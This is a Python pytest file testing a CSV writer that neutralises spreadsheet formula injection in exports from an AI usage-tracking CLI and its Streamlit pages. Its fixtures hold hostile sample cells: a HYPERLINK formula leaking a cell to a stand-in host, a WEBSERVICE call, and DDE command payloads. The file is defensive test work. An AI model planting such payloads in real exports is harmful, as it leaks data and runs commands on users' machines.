"""CSV that a spreadsheet opens as text: one writer (queries/csv_out.py) for the CLI and every page.

OWASP's rule (CSV Injection): a text cell starting with = + - @, a tab or a carriage return
gets a leading single quote. Numbers stay numbers, negative ones included. The ids below are
stored in real SQLite files and Claude Code logs, and every CSV the CLI writes and every
Download CSV of the pages (the bytes Streamlit would serve) comes out neutralised.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as hs
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from factories import ROOT, ClaudeProjects, DailyUsage, Rotation, TaskRow, Turn, fresh_app_env, signed_in
from queries.csv_out import csv_text, safe_cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # written out again here, from OWASP's cheat sheet
AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
AGENTX_MODEL = "+SUM(1,1)"
PROVIDER = "@SUM(1,1)"
AXIOM_MODEL = "-2+3+cmd|' /C calc'!A0"
SESSION = "\t=1+1"
LOG_SESSION = "=sess"
PROJECT = "-proj+1"
LOG_MODEL = "@claude-x"
CWD = "+/home/dev"
PREVIEW = "=WEBSERVICE(\"https://evil.example\")"
ERROR = "\r=2+2"
DAY = "2026-03-20"
ONE_DAY = ("--from", DAY, "--until", DAY)


# --- the rule ---------------------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("claude-opus-4-7", "claude-opus-4-7"), (" =1", " =1"), ("a=1", "a=1"), ("", ""),
    ("'=1", "'=1"),
])
def test_text_cells_starting_a_formula_get_a_single_quote(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("value", [-12.5, -3, 0, 7, 1e-9, True, None])
def test_numbers_booleans_and_none_stay_as_they_are(value):
    assert safe_cell(value) is value


def test_a_negative_change_is_written_as_a_number():
    assert csv_text([{"key": "-x", "delta": -12.5, "n": -3, "pct": None}], ["key", "delta", "n", "pct"]) == \
        "key,delta,n,pct\n'-x,-12.5,-3,\n"


HOSTILE_TEXT = hs.one_of(
    hs.text(alphabet=hs.sampled_from("=+-@\t\r\n\"',;|%!$`*_[]()<>:A1 "), max_size=12),
    hs.tuples(hs.sampled_from(FORMULA_STARTS), hs.text(max_size=20)).map("".join),
    hs.sampled_from(["=cmd|' /C calc'!A0", '=HYPERLINK("http://e.test","x")', "@SUM(1)", "-2+3", "+1", "\t=1",
                     "\r\n=1", "=1\n=2"]),
    hs.text(max_size=30),
)


@given(hs.lists(HOSTILE_TEXT, min_size=1, max_size=6))
def test_any_text_reads_back_as_itself_and_never_as_a_formula(values):
    fields = [f"c{i}" for i in range(len(values))]
    text = csv_text([dict(zip(fields, values))], fields)
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header == fields
    for value, cell in zip(values, row):
        assert not cell.startswith(FORMULA_STARTS)
        assert cell == ("'" + value if value.startswith(FORMULA_STARTS) else value)


def test_no_other_csv_writer_is_left_in_the_code():
    """csv.writer / DictWriter / DataFrame.to_csv anywhere but queries/csv_out.py would be a second writer."""
    pattern = re.compile(r"csv\.writer|DictWriter|\.to_csv\(|def to_csv")
    sources = [p for p in ROOT.rglob("*.py") if not {".venv", "tests", ".git"} & set(p.relative_to(ROOT).parts)]
    assert ROOT / "queries" / "csv_out.py" in sources and ROOT / "cli.py" in sources
    offenders = [str(p.relative_to(ROOT)) for p in sources if p != ROOT / "queries" / "csv_out.py"
                 and pattern.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


# --- every CSV the CLI writes ------------------------------------------------------------------

def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_neutralised(text: str, *values: str) -> None:
    """No cell would start a formula (numbers aside), and each hostile value is there, quoted."""
    rows = cells(text)
    assert len(rows) > 1, text
    flat = [c for row in rows for c in row]
    for cell in flat:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a number may start with '-' (or '+'): it raises for text
    for value in values:
        assert "'" + value in flat, (value, flat)
        assert value not in flat


@pytest.fixture
def hostile_agentx(agentx_db):
    day = datetime(2026, 3, 20, 9)
    agentx_db.daily(DailyUsage(AGENT, AGENTX_MODEL, DAY, 1_000, 500, tasks=1, tier2_input_tokens=300_000),
                    DailyUsage(AGENT, AGENTX_MODEL, "2026-03-19", 3_000, 900, tasks=2))
    agentx_db.traces(TaskRow("=task", AGENT, day, 1_500, status="-failed", channel="@chan", model=AGENTX_MODEL,
                             preview=PREVIEW, error=ERROR))
    agentx_db.rotations(Rotation(AGENT, "tier-2", f"{DAY}T10:00:00Z", last_turn_input_tokens=250_000))
    agentx_db.custom_prices({AGENTX_MODEL: {"input": 3, "output": 15}})
    return agentx_db


@pytest.fixture
def hostile_axiom(axiom_db):
    axiom_db.session(SESSION)
    axiom_db.usage(f"{DAY} 10:00:00", PROVIDER, AXIOM_MODEL, 1_000, 100, session_id=SESSION)
    return axiom_db


@pytest.fixture
def hostile_logs(claude_projects: ClaudeProjects):
    turn = Turn("msg-1", "req-1", f"{DAY}T10:00:00Z", model=LOG_MODEL, input_tokens=100, output_tokens=10)
    claude_projects.session_file(PROJECT, LOG_SESSION, [turn.line(LOG_SESSION, cwd=CWD)])
    return claude_projects


@pytest.mark.parametrize("args, values", [
    (("report", *ONE_DAY), (PROVIDER, AXIOM_MODEL)),
    (("sessions",), (SESSION, AXIOM_MODEL)),
    (("session", SESSION), (AXIOM_MODEL,)),
    (("compare", *ONE_DAY, "--vs-from", "2026-03-19", "--vs-until", "2026-03-19"), (f"{PROVIDER} / {AXIOM_MODEL}",)),
])
def test_every_axiom_csv_of_the_cli_is_neutralised(run_cli, hostile_axiom, args, values):
    result = run_cli(*args, "--db", hostile_axiom.path, "--format", "csv")
    assert result.code == 0, result.err
    assert_neutralised(result.out, *values)


@pytest.mark.parametrize("args, values", [
    (("agents", *ONE_DAY), (AGENT,)),
    (("tasks", AGENT, *ONE_DAY), ("=task", AGENT, "@chan", "-failed", AGENTX_MODEL, PREVIEW, ERROR)),
    (("rotations", *ONE_DAY), (AGENT,)),
    (("tier2", *ONE_DAY), (AGENT,)),
    (("compare", *ONE_DAY, "--vs-from", "2026-03-19", "--vs-until", "2026-03-19"), (AGENT,)),
])
def test_every_agentx_csv_of_the_cli_is_neutralised(run_cli, hostile_agentx, args, values):
    result = run_cli(*args, "--cwd", hostile_agentx.cwd, "--format", "csv")
    assert result.code == 0, result.err
    assert_neutralised(result.out, *values)


def test_the_compare_csv_keeps_a_negative_change_a_number(run_cli, hostile_agentx):
    out = run_cli("compare", "--cwd", hostile_agentx.cwd, *ONE_DAY, "--vs-from", "2026-03-19", "--vs-until",
                  "2026-03-19", "--format", "csv").out
    (row,) = csv.DictReader(io.StringIO(out, newline=""))
    # B (3,000 + 900) - A (1,000 + 500 + 300,000 tier-2 input), written as a number
    assert row["tokens_delta"] == "-297600"


@pytest.mark.parametrize("args, values", [
    (("sessions",), (LOG_SESSION, PROJECT, CWD, LOG_MODEL)),
    (("session", LOG_SESSION), (LOG_MODEL,)),
])
def test_every_claude_code_csv_of_the_cli_is_neutralised(run_cli, hostile_logs, args, values):
    result = run_cli(*args, "--projects", hostile_logs.root, "--format", "csv")
    assert result.code == 0, result.err
    assert_neutralised(result.out, *values)


# --- every Download CSV of the pages ---------------------------------------------------------

PASSWORD = "csv-test-password"
SERVED: dict[str, bytes] = {}


class ServedFiles(MemoryMediaFileStorage):
    """Streamlit's own in-memory media storage, also remembering what it was given (AppTest
    drops its storage after each run), so a test reads the bytes a Download CSV would serve."""

    def load_and_get_id(self, path_or_data, mimetype, kind, filename=None):
        file_id = super().load_and_get_id(path_or_data, mimetype, kind, filename)
        SERVED[file_id] = self._files_by_id[file_id].content
        return file_id


@pytest.fixture
def app(monkeypatch):
    import streamlit.testing.v1.app_test as app_test

    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", ServedFiles)
    fresh_app_env(monkeypatch, PASSWORD)
    SERVED.clear()


def open_page(page: str) -> AppTest:
    return signed_in(PASSWORD, page)


def downloads(at: AppTest) -> dict[str, str]:
    """Each Download CSV on the page: its widget id's key part -> the CSV text it serves."""
    found = {}
    for button in at.get("download_button"):
        name = button.proto.url.rsplit("/", 1)[-1]
        found[button.proto.id.rsplit("-", 1)[-1]] = SERVED[name.rsplit(".", 1)[0]].decode("utf-8")
    return found


def today_utc():
    return datetime.now(timezone.utc).date()


def test_the_token_usage_download_is_neutralised(app, axiom_db, monkeypatch):
    axiom_db.usage(f"{today_utc()} 00:00:01", PROVIDER, AXIOM_MODEL, 1_000, 100)
    monkeypatch.setenv("USAGE_DB", str(axiom_db.path))
    (text,) = downloads(open_page("token_usage")).values()
    assert_neutralised(text, PROVIDER, AXIOM_MODEL)


def test_the_sessions_turns_download_is_neutralised(app, axiom_db, monkeypatch):
    axiom_db.session(LOG_SESSION)  # the id box strips blanks, so not SESSION's leading tab here
    axiom_db.usage(f"{today_utc()} 00:00:01", PROVIDER, AXIOM_MODEL, 1_000, 100, session_id=LOG_SESSION)
    monkeypatch.setenv("USAGE_DB", str(axiom_db.path))
    at = open_page("sessions")
    at.text_input(key="sessions_id").input(LOG_SESSION)
    assert_neutralised(downloads(at.run())["sessions_csv"], AXIOM_MODEL)


def test_the_sessions_list_download_is_neutralised_and_equals_the_clis(app, axiom_db, monkeypatch, run_cli):
    axiom_db.session(SESSION)
    axiom_db.usage(f"{today_utc()} 00:00:01", PROVIDER, AXIOM_MODEL, 1_000, 100, session_id=SESSION)
    monkeypatch.setenv("USAGE_DB", str(axiom_db.path))
    text = downloads(open_page("sessions"))["sessions_list_csv"]
    assert_neutralised(text, SESSION, AXIOM_MODEL)
    assert cells(text) == cells(run_cli("sessions", "--db", axiom_db.path, "--format", "csv").out)


def agentx_today(agentx_db):
    today = today_utc()
    agentx_db.daily(DailyUsage(AGENT, AGENTX_MODEL, today.isoformat(), 1_000, 500, tasks=1, tier2_input_tokens=300_000),
                    DailyUsage(AGENT, AGENTX_MODEL, (today - timedelta(days=10)).isoformat(), 3_000, 900, tasks=2))
    agentx_db.rotations(Rotation(AGENT, "tier-2", f"{today}T00:00:01Z", last_turn_input_tokens=250_000))
    agentx_db.custom_prices({AGENTX_MODEL: {"input": 3, "output": 15}})
    return agentx_db


def test_the_agents_task_list_download_is_neutralised_and_equals_the_clis(app, agentx_db, monkeypatch, run_cli):
    started = datetime.combine(today_utc(), datetime.min.time())
    agentx_db.traces(TaskRow("=task", AGENT, started, 1_500, model=AGENTX_MODEL, preview=AXIOM_MODEL))
    monkeypatch.setenv("USAGE_DB", str(agentx_today(agentx_db).path))
    at = open_page("agents")
    at.selectbox(key="agents_pick").select(AGENT).run()
    assert not at.exception, at.exception
    text = downloads(at)["agents_tasks_csv"]
    assert_neutralised(text, AGENT, AXIOM_MODEL)
    assert cells(text) == cells(run_cli("tasks", AGENT, "--cwd", agentx_db.cwd, "--days", "30", "--format", "csv").out)


@pytest.mark.parametrize("page, count", [("agents", 1), ("tier2", 2), ("compare", 1)])
def test_the_agentx_pages_downloads_are_neutralised(app, agentx_db, monkeypatch, page, count):
    monkeypatch.setenv("USAGE_DB", str(agentx_today(agentx_db).path))
    found = downloads(open_page(page))
    assert len(found) == count, found
    for text in found.values():
        assert_neutralised(text, AGENT)
